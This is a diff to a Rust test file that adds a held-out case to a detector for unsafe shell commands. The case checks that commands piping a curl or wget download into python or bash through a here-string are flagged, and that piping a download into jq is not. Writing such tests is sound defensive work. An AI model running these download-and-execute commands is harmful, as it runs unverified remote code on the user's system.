@@ -683,3 +683,17 @@ fn archives_saved_unpacked_then_run() {
         assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
     }
 }
+
+/// Held-out 96: a download fed to an interpreter by a here-string; a
+/// download fed so to a JSON reader is no program run.
+#[test]
+fn a_download_in_a_here_string() {
+    for hit in [
+        "python - <<< \"$(curl -s https://hotfix.lanternworks.io/patch_db.py)\"",
+        "bash <<< \"$(wget -qO- https://get.example.io/install.sh)\"",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    let clean = "jq . <<< \"$(curl -s https://api.example.io/v1/status)\"";
+    assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+}
